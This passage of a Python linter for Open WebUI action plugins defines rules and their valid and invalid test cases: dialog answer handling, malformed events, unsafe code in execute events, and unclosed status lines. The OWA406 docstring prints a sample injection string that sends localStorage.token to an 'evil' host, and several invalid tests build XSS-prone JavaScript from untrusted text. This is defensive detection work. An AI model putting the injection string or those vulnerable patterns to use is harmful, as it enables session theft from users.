                    language = await __event_call__({"type": "input", "data": {"title": "Translate", "message": "Target language?"}})
                    if not language or isinstance(language, dict):
                        return {"messages": []}
                    prompt = f"Translate into {language}: {body['messages'][-1]['content']}"
                    return {"messages": [{"id": body["id"], "content": prompt}]}
            """
        ),
        Valid(
            """
            import logging

            log = logging.getLogger(__name__)

            class Action:
                async def action(self, body, __event_call__=None):
                    tag = await __event_call__({"type": "input", "data": {"title": "Tag", "message": "Tag name"}})
                    log.info("tag answer: %r", tag)
                    if tag is False or tag == "" or isinstance(tag, dict):
                        return
                    return {"messages": [{"id": body["id"], "content": "#" + tag}]}
            """
        ),
        Valid(
            """
            import requests
            from pydantic import BaseModel, Field

            class Action:
                class Valves(BaseModel):
                    api_url: str = Field(default="https://images.example.com/v1/generate", description="Image API")

                def __init__(self):
                    self.valves = self.Valves()

                async def _status(self, emitter, text, done=False):
                    await emitter({"type": "status", "data": {"description": text, "done": done}})

                async def action(self, body, __event_emitter__=None, __event_call__=None):
                    await self._status(__event_emitter__, "Asking for the size…")
                    try:
                        width = await __event_call__({"type": "input", "data": {"title": "Width", "message": "Image width (default 1024)", "placeholder": "1024"}})
                        # Cancel and "" give the default; int() raises on the error dict of a
                        # timeout, and the `except` reports and leaves.
                        width = int(width) if width else 1024
                        prompt = body["messages"][-1]["content"]
                        reply = requests.post(self.valves.api_url, json={"prompt": prompt, "width": width}, timeout=60)
                        reply.raise_for_status()
                    except Exception as e:
                        await self._status(__event_emitter__, f"Failed: {e}", True)
                        return {"messages": [{"id": body["id"], "content": f"Image generation failed: {e}"}]}
                    await self._status(__event_emitter__, "Image ready", True)
                    return {"messages": [{"id": body["id"], "content": f"![image]({reply.json()['url']})"}]}
            """
        ),
        Valid(
            """
            import json

            class Action:
                def _parse_flow(self, result):
                    # The helper checks what it got itself.
                    if isinstance(result, dict):
                        return result.get("flow")
                    if isinstance(result, str):
                        return json.loads(result).get("flow")
                    return None

                async def action(self, body, __event_call__=None):
                    answer = await __event_call__({"type": "input", "data": {"title": "Flow", "message": "Paste the flow JSON"}})
                    if not answer:
                        return {"messages": [{"id": body["id"], "content": "Cancelled."}]}
                    flow = self._parse_flow(answer)
                    return {"messages": [{"id": body["id"], "content": json.dumps(flow)}]}
            """
        ),
        Valid(
            """
            class Action:
                async def _ask(self, call, title):
                    return await call({"type": "input", "data": {"title": title, "message": "Value?"}})

                async def action(self, body, __event_call__=None):
                    value = await self._ask(__event_call__, "Limit")
                    if not isinstance(value, str):
                        return
                    limit = int(value or "10")
                    return {"messages": [{"id": body["id"], "content": str(limit)}]}
            """
        ),
        Valid(
            """
            class Action:
                async def action(self, body, __event_call__=None):
                    # Confirmations are OWA402/OWA403's business, not this rule's.
                    ok = await __event_call__({"type": "confirmation", "data": {"title": "Go", "message": "Continue?"}})
                    if ok is True:
                        return {"messages": [{"id": body["id"], "content": f"ok={ok}"}]}
            """
        ),
    ]
    INVALID = [
        Invalid(
            """
            from open_webui.models.chats import Chats

            class Action:
                async def action(self, body, __user__=None, __event_call__=None):
                    name = await __event_call__({"type": "input", "data": {"title": "Rename chat", "message": "New title"}})
                    await Chats.update_chat_title_by_id(body["chat_id"], name.strip())
            """,
            lines=(5,),
            message="line 6",
        ),
        Invalid(
            """
            class Action:
                async def action(self, body, __event_call__=None):
                    filename = await __event_call__({"type": "input", "data": {"title": "Export", "message": "File name", "placeholder": "chat.md"}})
                    if filename is None:
                        filename = "chat.md"
                    path = f"/tmp/exports/{filename}"
                    with open(path, "w") as fh:
                        fh.write(body["messages"][-1]["content"])
            """,
            lines=(3,),
            message="never `None`",
        ),
        Invalid(
            """
            class Action:
                async def action(self, body, __event_call__=None):
                    reply = (await __event_call__({"type": "input", "data": {"title": "Reply", "message": "Your answer"}})).strip()
                    return {"messages": [{"id": body["id"], "content": reply}]}
            """,
            lines=(3,),
        ),
        Invalid(
            """
            class Action:
                async def _ask_language(self, __event_call__):
                    answer = await __event_call__({"type": "input", "data": {"title": "Language", "message": "Translate into?"}})
                    return "Translate into " + answer

                async def action(self, body, __event_call__=None):
                    prompt = await self._ask_language(__event_call__)
                    return {"messages": [{"id": body["id"], "content": prompt}]}
            """,
            lines=(3,),
            message="reaches it through Action._ask_language",
        ),
        Invalid(
            """
            class Action:
                async def action(self, body, __event_call__=None):
                    language = await __event_call__({"type": "input", "data": {"title": "Translate", "message": "Target language?"}})
                    # A truthiness test alone: the error dict of a timeout is truthy.
                    if not language:
                        return {"messages": []}
                    prompt = f"Translate into {language}: {body['messages'][-1]['content']}"
                    return {"messages": [{"id": body["id"], "content": prompt}]}
            """,
            lines=(3,),
            message='lets the truthy `{"error": ...}` dict',
        ),
        Invalid(
            """
            import asyncio

            class Action:
                async def action(self, body, __id__=None, __event_emitter__=None, __event_call__=None):
                    content = body["messages"][-1]["content"]
                    if __id__ != "quick":
                        content = await __event_call__({"type": "input", "data": {"title": "Edit", "message": "Edit the message", "value": content}})
                    if content and __event_emitter__:
                        await __event_emitter__({"type": "status", "data": {"description": "Sending", "done": False}})
                        await asyncio.sleep(0.5)
                        content = content.replace("$", "\\$")
                        await __event_emitter__({"type": "message", "data": {"content": content}})
                        await __event_emitter__({"type": "status", "data": {"description": "Sent", "done": True}})
            """,
            lines=(7,),
            message="truthiness test handles only Cancel",
        ),
        Invalid(
            """
            from open_webui.models.chats import Chats

            class Action:
                async def _notify(self, emitter, text):
                    await emitter({"type": "notification", "data": {"type": "warning", "content": text}})

                async def action(self, body, __user__=None, __event_emitter__=None, __event_call__=None):
                    title = await __event_call__({"type": "input", "data": {"title": "Rename", "message": "New chat title"}})
                    if not isinstance(title, str) or not title.strip():
                        # Reports, but does not leave: the rename below still runs.
                        await __event_emitter__({"type": "status", "data": {"description": "No title given", "done": True}})
                        await self._notify(__event_emitter__, "Keeping the old title")
                    await Chats.update_chat_title_by_id(body["chat_id"], title.strip()[:80])
            """,
            lines=(8,),
            message="line 13",
        ),
        Invalid(
            """
            import logging

            log = logging.getLogger(__name__)

            class Action:
                async def action(self, body, __event_call__=None):
                    tag = await __event_call__({"type": "input", "data": {"title": "Tag", "message": "Tag name"}})
                    log.info("tag answer: %r", tag)
                    if tag is False or tag == "":
                        return
                    return {"messages": [{"id": body["id"], "content": "#" + tag}]}
            """,
            lines=(7,),
        ),
        Invalid(
            """
            class Action:
                async def action(self, body, __event_emitter__=None, __event_call__=None):
                    count = await __event_call__({"type": "input", "data": {"title": "Count", "message": "How many ideas?"}})
                    try:
                        count = int(count) if count else 3
                    except (TypeError, ValueError):
                        # Falls through with the raw answer: nothing was handled.
                        await __event_emitter__({"type": "notification", "data": {"type": "warning", "content": f"Not a number: {count}"}})
                    ideas = "\\n".join(f"{i + 1}. …" for i in range(count))
                    return {"messages": [{"id": body["id"], "content": f"{count} ideas:\\n{ideas}"}]}
            """,
            lines=(3,),
        ),
        Invalid(
            """
            class Action:
                async def action(self, body, __event_call__=None, __event_emitter__=None):
                    tag = await __event_call__({"type": "input", "data": {"title": "Tag", "message": "Tag name"}})
                    label = tag
                    await __event_emitter__({"type": "notification", "data": {"type": "success", "content": f"Tagged #{label.lower()}"}})
            """,
            lines=(3,),
        ),
    ]


def _payload_problems(kind: str, value: Value) -> list[str]:
    """What is wrong with an event payload (one phrase each); [] when fine or unknown."""
    if not isinstance(value, DictV):
        return []
    problems: list[str] = []
    event_type = value.items.get("type")
    data = value.items.get("data")
    if event_type is None and value.complete:
        problems.append("has no `type`")
    if data is None and value.complete:
        problems.append("has no `data`")
    type_name = const_str(event_type)
    if type_name is None:
        return problems
    if kind == "call" and type_name not in CALL_TYPES:
        problems.append(
            f"sends `{type_name}` through `__event_call__`, which only shows "
            "`confirmation`, `input` and `execute` dialogs (and then waits for an answer that "
            "never comes); send one-way events with `__event_emitter__`"
        )
    if not isinstance(data, DictV):
        return problems
    if type_name in ("confirmation", "input") and data.complete:
        missing = [k for k in ("title", "message") if k not in data.items]
        if missing:
            shown = " and ".join(f"`{k}`" for k in missing)
            problems.append(f"is a `{type_name}` whose `data` has no {shown} (an empty dialog)")
    if (
        type_name == "status"
        and data.complete
        and "description" not in data.items
        and "action" not in data.items  # web-search style statuses render from `action`
    ):
        problems.append("is a `status` whose `data` has no `description` (an empty status line)")
    if type_name == "notification":
        level = data.items.get("type")
        level_name = const_str(level)
        if level_name is not None and level_name not in NOTIFICATION_TYPES:
            problems.append(
                f"is a `notification` of type {level_name!r}; the toast types are "
                "`info`, `success`, `warning` and `error`"
            )
    return problems


class MalformedEvent(LintRule):
    """
    ## What it does
    Checks event payloads owui-lint can evaluate (literals, dicts built in steps, helpers
    with literal arguments): an event without `type` or `data`; an `__event_call__` type
    other than `confirmation`, `input` or `execute`; a `confirmation` / `input` without
    `title` or `message`; a `status` without `description`; a `notification` whose `type` is
    not `info`, `success`, `warning` or `error`.

    ## Why is this bad?
    Every event is `{"type": ..., "data": {...}}` (§4 of the action contract). The browser
    ignores or mis-renders anything else: an empty dialog, a blank status line, a toast that
    never shows. Worse, a one-way event sent with `__event_call__` waits for an answer the
    browser never sends, and with no timeout configured the action hangs.

    Payloads built dynamically (`{"type": kind, ...}`, dicts from other modules) are not
    checked. A problem that only appears with the arguments of one call of a helper is
    reported on that call.

    ## Example
    ```python
    await __event_emitter__({"type": "status", "description": "Working", "done": False})
    ```

    ## Use instead
    ```python
    class Action:
        async def action(self, body, __event_emitter__=None):
            await __event_emitter__({"type": "status", "data": {"description": "Working", "done": False}})
            count = len(body.get("messages", []))
            await __event_emitter__({"type": "status", "data": {"description": f"{count} messages", "done": True}})
    ```
    """

    code = "OWA405"
    name = "malformed-event"
    level = Level.ERROR
    summary = "An event payload Open WebUI cannot use."

    def check(self) -> None:
        model = self.module
        facts = event_facts(model)
        for site in facts.sites:
            value = site_value(model, site)
            if value is None:
                continue
            base = _payload_problems(site.kind, value)
            if base:
                self._report(site, site.call, base, site.function)
            for call, caller, extra in self._contexts(site, set(base)):
                self._report(site, call, extra, caller, through=site.function)

    def _contexts(
        self, site: EventSite, known: set[str]
    ) -> Iterator[tuple[cst.Call, FunctionInfo, list[str]]]:
        """Problems that appear with the literal arguments of one call of the helper."""
        model = self.module
        info = site.function
        if info is model.action_method or site.payload is None:
            return
        for call_site in model.callers.get(info.qualname, []):
            if call_site.kind != "call" or not isinstance(call_site.node, cst.Call):
                continue
            caller = model.functions.get(call_site.caller)
            if caller is None or bind_arguments(call_site.node, info) is None:
                continue
            env = Evaluator(model, caller).bind_env(call_site.node, info)
            if env is None:
                continue
            value = Evaluator(model, info, env).value(site.payload, site.call)
            extra = [p for p in _payload_problems(site.kind, value) if p not in known]
            if extra:
                yield call_site.node, caller, extra

    def _report(
        self,
        site: EventSite,
        at: cst.CSTNode,
        problems: list[str],
        function: FunctionInfo,
        through: FunctionInfo | None = None,
    ) -> None:
        model = self.module
        callee = "`__event_call__`" if site.kind == "call" else "`__event_emitter__`"
        where = (
            f" (sent by `{through.qualname}` on line {_line(model, site.call)})" if through else ""
        )
        self.report(
            None,
            f"this event {'; it '.join(problems)}{where}: Open WebUI expects "
            f'`{{"type": ..., "data": {{...}}}}` for {callee}' + _suffix(model, function),
            location=model.statement_location(at),
        )

    VALID = [
        Valid(
            """
            class Action:
                async def action(self, body, __event_emitter__=None, __event_call__=None):
                    await __event_emitter__({"type": "status", "data": {"description": "Summarising…", "done": False}})
                    ok = await __event_call__({"type": "confirmation", "data": {"title": "Post", "message": "Post the summary?"}})
                    await __event_emitter__({"type": "notification", "data": {"type": "success", "content": "Posted"}})
                    await __event_emitter__({"type": "status", "data": {"description": "Done", "done": True}})
            """
        ),
        Valid(
            """
            class Action:
                async def _emit(self, emitter, kind, text):
                    await emitter({"type": "notification", "data": {"type": kind, "content": text}})

                async def action(self, body, __event_emitter__=None):
                    await self._emit(__event_emitter__, "warning", "The chat is empty")
                    await self._emit(__event_emitter__, "info", "Nothing to do")
            """
        ),
        Valid(
            """
            class Action:
                async def action(self, body, __event_emitter__=None, __event_call__=None):
                    event = {"type": "execute"}
                    event["data"] = {"code": "return document.title"}
                    title = await __event_call__(event)
                    await __event_emitter__({"type": "chat:title", "data": str(title)})
            """
        ),
        Valid(
            """
            class Action:
                async def action(self, body, __event_emitter__=None):
                    kind = body.get("event", {}).get("type", "message")
                    # Dynamic type: not known statically, not checked.
                    await __event_emitter__({"type": kind, "data": {"content": "x"}})
                    await __event_emitter__({"type": "message", "data": {"content": "\\n\\n---\\nExported."}})
            """
        ),
        Valid(
            """
            class EventEmitter:
                def __init__(self, event_emitter=None):
                    self.event_emitter = event_emitter

                async def emit(self, description="Working", status="in_progress", done=False):
                    if self.event_emitter:
                        await self.event_emitter({"type": "status", "data": {"status": status, "description": description, "done": done}})

            class Action:
                async def action(self, body, __event_emitter__=None):
                    emitter = EventEmitter(__event_emitter__)
                    await emitter.emit("Reading the chat")
                    await emitter.emit("Done", "complete", True)
            """
        ),
    ]
    INVALID = [
        Invalid(
            """
            class Action:
                async def action(self, body, __event_emitter__=None):
                    await __event_emitter__({"type": "status", "description": "Exporting…", "done": False})
                    await __event_emitter__({"type": "status", "data": {"description": "Exported", "done": True}})
            """,
            lines=(3,),
            message="has no `data`",
        ),
        Invalid(
            """
            class Action:
                async def action(self, body, __event_call__=None):
                    await __event_call__({"type": "notification", "data": {"type": "info", "content": "Working"}})
            """,
            lines=(3,),
            message="only shows",
        ),
        Invalid(
            """
            class Action:
                async def action(self, body, __event_call__=None):
                    answer = await __event_call__({"type": "confirmation", "data": {"message": "Delete the chat?"}})
                    if answer is True:
                        return {"messages": [{"id": body["id"], "content": "ok"}]}
            """,
            lines=(3,),
            message="has no `title`",
        ),
        Invalid(
            """
            class Action:
                async def _notify(self, emitter, level, text):
                    await emitter({"type": "notification", "data": {"type": level, "content": text}})

                async def action(self, body, __event_emitter__=None):
                    await self._notify(__event_emitter__, "success", "Saved")
                    await self._notify(__event_emitter__, "warn", "Nothing to save")
            """,
            lines=(7,),
            message="'warn'",
        ),
        Invalid(
            """
            class Action:
                async def action(self, body, __event_emitter__=None):
                    emit = __event_emitter__
                    payload = {"type": "status", "data": {}}
                    payload["data"]["done"] = False
                    await emit(payload)
            """,
            lines=(6,),
            message="no `description`",
        ),
        Invalid(
            """
            class Action:
                async def action(self, body, __event_emitter__=None):
                    await __event_emitter__({"data": {"content": body["messages"][-1]["content"].upper()}})
            """,
            lines=(3,),
            message="has no `type`",
        ),
    ]


# --- taint sinks ----------------------------------------------------------------------------


def _taint_of_value(model: ActionModule, value: Value, policy_js: bool) -> Taint:
    engine = taint_engine(model, JS_POLICY if policy_js else HTML_POLICY)
    out: Taint = frozenset()
    pending = [value]  # lists nest: items in order, with a stack
    while pending:
        current = pending.pop()
        if isinstance(current, Opaque):
            if current.function is not None and isinstance(current.node, cst.BaseExpression):
                out |= engine.taint(current.node, current.function)
        elif isinstance(current, ListV):
            pending += reversed(current.items)
    return out


class TaintedExecuteCode(LintRule):
    """
    ## What it does
    Reports an `execute` event (through `__event_call__` or `__event_emitter__`) whose `code`
    is built from untrusted data: `body` (chat content, client-controlled), model output,
    UserValves, `input` answers, or `__user__` fields (low confidence), by f-string, `%`,
    `+` or `.format`, without `json.dumps` (or `html.escape`, base64, URL quoting) around
    the value.

    ## Why is this bad?
    The browser runs `code` with `new Function` in the main page (§4 of the action
    contract): no sandbox, full access to the DOM, cookies, local storage and the user's
    session token. A chat message, a model reply shaped by a prompt injection, or a
    UserValve containing `'); fetch('https://evil/?t='+localStorage.token); ('` becomes
    script running as the user (CWE-79). Admin Valves are trusted.

    Values are followed through assignments, branches, loops and module helpers; an
    imported helper is assumed to pass its arguments' taint through.

    ## Example
    ```python
    title = body["messages"][0]["content"][:40]
    await __event_call__({"type": "execute", "data": {"code": f"document.title = '{title}'"}})
    ```

    ## Use instead
    ```python
    import json

    class Action:
        async def action(self, body, __event_call__=None):
            title = body["messages"][0]["content"][:40]
            await __event_call__({"type": "execute", "data": {"code": f"document.title = {json.dumps(title)}"}})
    ```
    """

    code = "OWA406"
    name = "tainted-execute-code"
    level = Level.ERROR
    security = True
    cwe = (79,)
    summary = "Untrusted text interpolated into the JavaScript of an `execute` event."

    def check(self) -> None:
        model = self.module
        for site in event_facts(model).sites:
            value = site_value(model, site)
            if not isinstance(value, DictV) or const_str(value.items.get("type")) != "execute":
                continue
            data = value.items.get("data")
            code: Value | None = data.items.get("code") if isinstance(data, DictV) else data
            if code is None:
                continue
            taint = _taint_of_value(model, code, policy_js=True)
            if not taint:
                continue
            self.report(
                None,
                f"the `code` of this `execute` event is built from {describe_taint(taint)}: the "
                "browser runs it unsandboxed in the page (`new Function`), so that text can run "
                "any script as the user (XSS); embed values with `json.dumps(value)` "
                "(a JavaScript literal) instead of pasting them into the source"
                + _suffix(model, site.function),
                location=model.statement_location(site.call),
                confidence=Confidence.LOW if is_low_confidence(taint) else None,
            )

    VALID = [
        Valid(
            """
            import json

            class Action:
                async def action(self, body, __event_call__=None):
                    title = body["messages"][0]["content"][:40]
                    await __event_call__({"type": "execute", "data": {"code": f"document.title = {json.dumps(title)}"}})
            """
        ),
        Valid(
            """
            import base64

            class Action:
                async def action(self, body, __event_emitter__=None):
                    csv = "\\n".join(m["content"] for m in body["messages"])
                    blob = base64.b64encode(csv.encode()).decode()
                    js = (
                        "const a = document.createElement('a');"
                        f"a.href = 'data:text/csv;base64,{blob}';"
                        "a.download = 'chat.csv'; a.click();"
                    )
                    await __event_emitter__({"type": "execute", "data": {"code": js}})
            """
        ),
        Valid(
            """
            class Action:
                class Valves:
                    theme = "dark"

                def __init__(self):
                    self.valves = self.Valves()

                async def action(self, body, __event_call__=None):
                    code = "document.body.dataset.theme = '" + self.valves.theme + "'"
                    await __event_call__({"type": "execute", "data": {"code": code}})
            """
        ),
        Valid(
            """
            import json

            class Action:
                def _js(self, text):
                    return f"navigator.clipboard.writeText({json.dumps(text)})"

                async def action(self, body, __event_call__=None):
                    await __event_call__({"type": "execute", "data": {"code": self._js(body["messages"][-1]["content"])}})
            """
        ),
        Valid(
            """
            class Action:
                async def action(self, body, __event_call__=None):
                    count = len(body["messages"])
                    await __event_call__({"type": "execute", "data": {"code": f"alert('{count} messages')"}})
            """
        ),
    ]
    INVALID = [
        Invalid(
            """
            class Action:
                async def action(self, body, __event_call__=None):
                    title = body["messages"][0]["content"][:40]
                    await __event_call__({"type": "execute", "data": {"code": f"document.title = '{title}'"}})
            """,
            lines=(4,),
            message="`body` (client-controlled chat content)",
        ),
        Invalid(
            """
            from open_webui.main import generate_chat_completion

            class Action:
                async def action(self, body, __user__=None, __request__=None, __event_emitter__=None):
                    response = await generate_chat_completion(__request__, {"model": body["model"], "messages": body["messages"]}, None)
                    summary = response["choices"][0]["message"]["content"]
                    script = "navigator.clipboard.writeText(`%s`)" % summary
                    await __event_emitter__({"type": "execute", "data": {"code": script}})
            """,
            lines=(8,),
            message="model output",
        ),
        Invalid(
            """
            class Action:
                async def _run(self, call, code):
                    return await call({"type": "execute", "data": {"code": code}})

                async def action(self, body, __user__=None, __event_call__=None):
                    color = __user__["valves"].accent_color
                    await self._run(__event_call__, "document.body.style.background = '{}'".format(color))
            """,
            lines=(3,),
            message="UserValves",
        ),
        Invalid(
            """
            class Action:
                async def action(self, body, __event_call__=None):
                    name = await __event_call__({"type": "input", "data": {"title": "File", "message": "File name"}})
                    if not isinstance(name, str):
                        return
                    js = "const a = document.createElement('a'); a.download = '" + name + "'; a.click();"
                    await __event_call__({"type": "execute", "data": {"code": js}})
            """,
            lines=(7,),
            message="an `input` answer",
        ),
        Invalid(
            """
            class Action:
                async def action(self, body, __user__=None, __event_call__=None):
                    user = __user__ or {}
                    greeting = f"alert('Hello {user.get('name')}')"
                    await __event_call__({"type": "execute", "data": {"code": greeting}})
            """,
            lines=(5,),
            message="`__user__` fields",
        ),
        Invalid(
            """
            class Action:
                async def action(self, body, __event_emitter__=None):
                    rows = []
                    for m in body["messages"]:
                        rows.append("console.log('" + m["role"] + ": " + m["content"] + "');")
                    payload = {"type": "execute", "data": {}}
                    payload["data"]["code"] = "\\n".join(rows)
                    await __event_emitter__(payload)
            """,
            lines=(8,),
        ),
    ]


class StatusNeverDone(LintRule):
    """
    ## What it does
    Follows every feasible path through `action` (and the helpers it calls, summarised as
    "leaves a status open / closes it") and reports each `return`, `raise`, or the end of
    `action`, reached after a `status` event without a later `status` with `done: True`.

    ## Why is this bad?
    The status line under the message keeps its "working" shimmer until a status with
    `done: True` arrives (§4 of the action contract). An early `return` on an error path, or
    a forgotten final status, leaves the user watching a spinner for an action that
    finished long ago.

    The false branch of `if __event_emitter__:` is infeasible (the emitter is never None).
    Paths are judged with admin switches on: a test of `self.valves.<flag>` alone is taken
    as true (it has one value for the whole request, so a helper that opens and one that
    closes under the same switch stay consistent). A status with `"hidden": True` counts as
    closing it. A `done` that is not a literal (computed, passed in from elsewhere) is not
    judged; status helpers that take `done` as a parameter
    (`await self._emit_status(emitter, "…", False)`) are followed with the value passed.

    Correlated conditions: a status opened under `if user_valves.show_status:` and closed
    under the same test (in the `try` and in its `except` alike) is closed on every feasible
    path, as long as nothing assigns the tested names in between (or calls a method on them).
    When `action` ends with `return await self._handle(...)` and the helper's own status is
    still showing at one of its returns, the finding is on that `return` in the helper.

    ## Example
    ```python
    await __event_emitter__({"type": "status", "data": {"description": "Exporting…", "done": False}})
    if not body.get("messages"):
        return
    ```

    ## Use instead
    ```python
    class Action:
        async def action(self, body, __event_emitter__=None):
            await __event_emitter__({"type": "status", "data": {"description": "Exporting…", "done": False}})
            if not body.get("messages"):
                await __event_emitter__({"type": "status", "data": {"description": "Nothing to export", "done": True}})
                return
            await __event_emitter__({"type": "status", "data": {"description": "Exported", "done": True}})
    ```
    """

    code = "OWA407"
    name = "status-never-done"
    level = Level.WARNING
    summary = "A path ends with a `status` event still open (no `done: True`)."

    def check(self) -> None:
        model = self.module
        action = model.action_method
        if action is None:
            return
        for stmt, lines in status_paths(model).open_exits():
            shown = ", ".join(str(n) for n in sorted(lines))
            plural = "s" if len(lines) > 1 else ""
            if stmt is None:
                where = "`action` ends"
                location = model.line_location(model.position(action.node).end.line)
            else:
                where = (
                    "this `raise` leaves `action`"
                    if isinstance(stmt, cst.Raise)
                    else ("this `return` ends `action`")
                )
                location = model.statement_location(stmt)
                helper = model.enclosing_function(stmt)
                if helper is not None and helper is not action:
                    # `return await self._run(...)` in `action`: the path ends in the helper.
                    where = (
                        f"this `return` ends `action` (which returns what "
                        f"`{helper.qualname}` returns)"
                    )
            self.report(
                None,
                f"{where} with the `status` from line{plural} {shown} still showing (no later "
                "status with `done: True`): its shimmer never stops; emit "
                '`{"type": "status", "data": {"description": ..., "done": True}}` before '
                "leaving",
                location=location,
            )

    VALID = [
        Valid(
            """
            class Action:
                async def action(self, body, __event_emitter__=None):
                    await __event_emitter__({"type": "status", "data": {"description": "Counting…", "done": False}})
                    words = sum(len(m["content"].split()) for m in body["messages"])
                    await __event_emitter__({"type": "status", "data": {"description": f"{words} words", "done": True}})
                    return {"messages": [{"id": body["id"], "content": f"{words} words"}]}
            """
        ),
        Valid(
            """
            class Action:
                async def action(self, body, __event_emitter__=None):
                    if __event_emitter__:
                        await __event_emitter__({"type": "status", "data": {"description": "Working", "done": False}})
                    try:
                        text = body["messages"][-1]["content"]
                    finally:
                        if __event_emitter__:
                            await __event_emitter__({"type": "status", "data": {"description": "", "done": True, "hidden": True}})
                    return {"messages": [{"id": body["id"], "content": text.upper()}]}
            """
        ),
        Valid(
            """
            class EventEmitter:
                def __init__(self, event_emitter=None):
                    self.event_emitter = event_emitter

                async def emit(self, description="Working", status="in_progress", done=False):
                    if self.event_emitter:
                        await self.event_emitter({"type": "status", "data": {"status": status, "description": description, "done": done}})

            class Action:
                async def action(self, body, __event_emitter__=None):
                    emitter = EventEmitter(__event_emitter__)
                    await emitter.emit("Summarising")
                    if not body.get("messages"):
                        await emitter.emit("Nothing to do", "complete", True)
                        return None
                    await emitter.emit("Done", "complete", True)
            """
        ),
        Valid(
            """
            class Action:
                async def _status(self, emitter, text, done=False):
                    await emitter({"type": "status", "data": {"description": text, "done": done}})

                async def action(self, body, __event_emitter__=None):
                    await self._status(__event_emitter__, "Exporting")
                    try:
                        data = "\\n".join(m["content"] for m in body["messages"])
                    except KeyError:
                        await self._status(__event_emitter__, "Malformed chat", done=True)
                        raise
                    await self._status(__event_emitter__, "Exported", done=True)
                    return {"messages": [{"id": body["id"], "content": data}]}
            """
        ),
        Valid(
            """
            class Action:
                class Valves:
                    SHOW_STATUS = True

                def __init__(self):
                    self.valves = self.Valves()

                async def _emit_status(self, emitter, description, done=False):
                    if self.valves.SHOW_STATUS and emitter:
                        await emitter({"type": "status", "data": {"description": description, "done": done}})

                async def action(self, body, __event_emitter__=None):
                    await self._emit_status(__event_emitter__, "Analysing…")
                    summary = body["messages"][-1]["content"][:300]
                    await self._emit_status(__event_emitter__, "Done", True)
                    return {"messages": [{"id": body["id"], "content": summary}]}
            """
        ),
        Valid(
            """
            from open_webui.models.users import Users
            from open_webui.routers.memories import AddMemoryForm, add_memory
            from pydantic import BaseModel, Field

            class Action:
                class UserValves(BaseModel):
                    show_status: bool = Field(default=True, description="Show status updates")

                async def action(self, body, __user__=None, __event_emitter__=None, __request__=None):
                    user_valves = __user__.get("valves") or self.UserValves()
                    # Opened and closed under the same test: closed on every feasible path,
                    # on the success path and in the `except` alike.
                    if __event_emitter__ and user_valves.show_status:
                        await __event_emitter__({"type": "status", "data": {"description": "Saving to memory…", "done": False}})
                    user = Users.get_user_by_id(__user__["id"])
                    try:
                        content = body["messages"][-1]["content"]
                        await add_memory(request=__request__, form_data=AddMemoryForm(content=content), user=user)
                        if user_valves.show_status:
                            await __event_emitter__({"type": "status", "data": {"description": "Memory saved", "done": True}})
                    except Exception as e:
                        print(f"add_memory failed: {e}")
                        if user_valves.show_status:
                            await __event_emitter__({"type": "status", "data": {"description": "Could not save", "done": True}})
                        return {"messages": [{"id": body["id"], "content": f"Error: {e}"}]}
            """
        ),
        Valid(
            """
            import asyncio

            class Action:
                def __init__(self):
                    self.verbose = True

                async def _emit_status(self, emitter, description, done):
                    await emitter({"type": "status", "data": {"description": description, "done": done}})

                def _render(self, text):
                    return text.replace("\\n", "  \\n")

                async def action(self, body, __event_emitter__=None):
                    show = bool(body.get("messages")) and self.verbose
                    if show:
                        await self._emit_status(__event_emitter__, "Rendering…", False)
                    text = await asyncio.to_thread(self._render, body["messages"][-1]["content"])
                    for _ in range(3):
                        text = text.strip()
                    if not show:
                        return {"messages": [{"id": body["id"], "content": text}]}
                    await self._emit_status(__event_emitter__, "Rendered", True)
                    return {"messages": [{"id": body["id"], "content": text}]}
            """
        ),
        Valid(
            """
            class Action:
                async def _emit_status(self, emitter, description, done):
                    await emitter({"type": "status", "data": {"description": description, "done": done}})

                async def _export(self, body, emitter):
                    await self._emit_status(emitter, "Exporting…", False)
                    if not body.get("messages"):
                        await self._emit_status(emitter, "Nothing to export", True)
                        return {"messages": []}
                    text = "\\n\\n".join(m["content"] for m in body["messages"])
                    await self._emit_status(emitter, "Exported", True)
                    return {"messages": [{"id": body["id"], "content": text}]}

                async def action(self, body, __event_emitter__=None):
                    return await self._export(body, __event_emitter__)
            """
        ),
        Valid(
            """
            class Action:
                async def action(self, body, __event_emitter__=None):
                    # No status at all: nothing to close.
                    await __event_emitter__({"type": "notification", "data": {"type": "info", "content": "Copied"}})
                    return None
            """
        ),
    ]
    INVALID = [
        Invalid(
            """
            class Action:
                async def action(self, body, __event_emitter__=None):
                    await __event_emitter__({"type": "status", "data": {"description": "Exporting…", "done": False}})
                    if not body.get("messages"):
                        return {"messages": []}
                    await __event_emitter__({"type": "status", "data": {"description": "Exported", "done": True}})
                    return None
            """,
            lines=(5,),
            message="line 3",
        ),
        Invalid(
            """
            class Action:
                async def action(self, body, __event_emitter__=None):
                    await __event_emitter__({"type": "status", "data": {"description": "Translating"}})
                    text = body["messages"][-1]["content"]
                    await __event_emitter__({"type": "message", "data": {"content": text[::-1]}})
            """,
            lines=(5,),
            message="`action` ends",
        ),
        Invalid(
            """
            class Action:
                async def _start(self, emitter):
                    await emitter({"type": "status", "data": {"description": "Generating image…", "done": False}})

                async def action(self, body, __event_emitter__=None):
                    await self._start(__event_emitter__)
                    prompt = body["messages"][-1]["content"]
                    if len(prompt) > 1000:
                        raise ValueError("Prompt too long")
                    await __event_emitter__({"type": "status", "data": {"description": "Done", "done": True}})
            """,
            lines=(9,),
            message="this `raise` leaves `action`",
        ),
        Invalid(
            """
            class EventEmitter:
                def __init__(self, event_emitter=None):
                    self.event_emitter = event_emitter

                async def emit(self, description="Working", status="in_progress", done=False):
                    if self.event_emitter:
                        await self.event_emitter({"type": "status", "data": {"status": status, "description": description, "done": done}})

            class Action:
                async def action(self, body, __event_emitter__=None):
                    emitter = EventEmitter(__event_emitter__)
                    await emitter.emit("Fetching")
                    try:
                        text = body["messages"][-1]["content"]
                    except (KeyError, IndexError):
                        await emitter.emit("Empty chat")
                        return None
                    await emitter.emit("Done", "complete", True)
                    return {"messages": [{"id": body["id"], "content": text}]}
            """,
            lines=(17,),
            message="line 16",
        ),
        Invalid(
            """
            class Action:
                async def action(self, body, __event_emitter__=None):
                    for message in body["messages"]:
                        await __event_emitter__({"type": "status", "data": {"description": f"Checking {message['id']}", "done": False}})
                        if "TODO" in message["content"]:
                            return {"messages": [{"id": message["id"], "content": "Found a TODO"}]}
                    await __event_emitter__({"type": "status", "data": {"description": "No TODOs", "done": True}})
            """,
            lines=(6,),
        ),
        Invalid(
            """
            class Action:
                async def action(self, body, __user__=None, __event_emitter__=None):
                    valves = __user__.get("valves")
                    if valves.show_status:
                        await __event_emitter__({"type": "status", "data": {"description": "Summarising…", "done": False}})
